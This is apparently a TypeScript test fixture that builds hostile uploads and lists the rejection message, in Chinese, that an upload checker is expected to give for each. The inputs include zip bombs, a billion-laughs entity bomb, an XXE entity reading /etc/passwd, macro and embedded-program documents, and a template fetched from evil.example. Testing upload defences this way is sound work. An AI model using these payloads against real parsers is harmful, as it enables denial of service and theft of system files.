import type { Crafted } from './crafted';
import { docx, docxMembers, jpg, xlsx, xlsxMembers } from './sound';
import { type Member, zip } from './zip';

const megabyte = 1024 * 1024;
const withMember = (member: Member) => zip([...xlsxMembers(), member]);
const withDocument = (data: string | Buffer) =>
  zip([...docxMembers().slice(0, 2), { path: 'word/document.xml', data }]);
const laughs = Array.from({ length: 9 }, (_, at) => `<!ENTITY l${at + 1} "${`&l${at};`.repeat(10)}">`).join(
  '',
);
const sheet = { path: 'xl/worksheets/sheet1.xml' };
const zeros = (size: number) => Buffer.alloc(size);
const cut = (bytes: Buffer, share = 0.6) => bytes.subarray(0, Math.floor(bytes.length * share));

function overlapping(): Buffer {
  const same = { ...sheet, data: zeros(megabyte) };
  return zip([...xlsxMembers(), ...Array.from({ length: 500 }, () => same)]);
}

export const craftedArchives: readonly Crafted[] = [
  {
    what: 'a zip bomb',
    name: '台账.xlsx',
    bytes: () => withMember({ ...sheet, data: zeros(220 * megabyte) }),
    told: '展开后过大',
  },
  {
    what: 'a zip bomb that lies about its size',
    name: '台账.xlsx',
    bytes: () => withMember({ ...sheet, data: zeros(220 * megabyte), declared: 1000 }),
    told: '展开后过大',
  },
  {
    what: 'members that lie over each other',
    name: '台账.xlsx',
    bytes: overlapping,
    told: '展开后过大',
  },
  {
    what: 'members without end',
    name: '台账.xlsx',
    bytes: () =>
      zip([
        ...xlsxMembers(),
        ...Array.from({ length: 3000 }, (_, at) => ({ path: `xl/media/${at}`, data: '' })),
      ]),
    told: '展开后过大',
  },
  {
    what: 'an entity bomb',
    name: '纪要.docx',
    bytes: () => withDocument(`<?xml version="1.0"?><!DOCTYPE w [<!ENTITY l0 "ha">${laughs}]><w>&l9;</w>`),
    told: 'DOCTYPE',
  },
  {
    what: 'an entity that reads a file of the machine',
    name: '台账.xlsx',
    bytes: () =>
      withMember({
        ...sheet,
        data: '<!DOCTYPE s [<!ENTITY f SYSTEM "file:///etc/passwd">]><s>&f;</s>',
      }),
    told: 'DOCTYPE',
  },
  {
    what: 'a declaration in another encoding',
    name: '纪要.docx',
    bytes: () => withDocument(Buffer.from('\ufeff<!DOCTYPE w [<!ENTITY a "a">]><w>&a;</w>', 'utf16le')),
    told: 'DOCTYPE',
  },
  {
    what: 'a macro',
    name: '台账.xlsx',
    bytes: () => withMember({ path: 'xl/vbaProject.bin', data: 'x' }),
    told: '宏',
  },
  {
    what: 'a macro document under another name',
    name: '纪要.docx',
    bytes: () =>
      zip([
        {
          path: '[Content_Types].xml',
          data: '<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>',
        },
        ...docxMembers().slice(1),
      ]),
    told: '宏',
  },
  {
    what: 'a program in an embedded object',
    name: '纪要.docx',
    bytes: () => zip([...docxMembers(), { path: 'word/embeddings/oleObject1.bin', data: 'MZ' }]),
    told: '控件',
  },
  {
    what: 'a template from elsewhere',
    name: '纪要.docx',
    bytes: () =>
      zip([
        ...docxMembers(),
        {
          path: 'word/_rels/settings.xml.rels',
          data: '<Relationships><Relationship Id="r" Type="http://x/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>',
        },
      ]),
    told: '外部',
  },
  {
    what: 'a workbook with a password',
    name: '台账.xlsx',
    bytes: () => withMember({ ...sheet, data: 'x', isEncrypted: true }),
    told: '密码',
  },
  {
    what: 'a workbook called a document',
    name: '纪要.docx',
    bytes: () => xlsx(),
    told: '不是Word 文档',
  },
  { what: 'half a document', name: '纪要.docx', bytes: () => cut(docx()), told: '不完整' },
  {
    what: 'a program called PDF',
    name: '协议.pdf',
    bytes: () => Buffer.from(`MZ${'\0'.repeat(200)}`),
    told: '不是PDF',
  },
  { what: 'a page called photo', name: '现场.jpg', bytes: () => Buffer.from('<html>'), told: '不是JPG 图片' },
  { what: 'a photo called PNG', name: '现场.png', bytes: () => jpg(), told: '与扩展名 .png 不符' },
  {
    what: 'an old document',
    name: '协议.docx',
    bytes: () => Buffer.from('d0cf11e0a1b11ae100000000', 'hex'),
    told: '旧版',
  },
  {
    what: 'a photo as iPhones keep it',
    name: 'IMG_1.jpg',
    bytes: () => Buffer.from('\0\0\0\x18ftypheic\0\0\0\0mif1heic', 'latin1'),
    told: 'HEIC',
  },
  { what: 'a file of no known kind', name: '脚本.svg', bytes: () => Buffer.from('<svg/>'), told: '不能上传' },
  { what: 'an empty file', name: '协议.pdf', bytes: () => Buffer.alloc(0), told: '空的' },
];
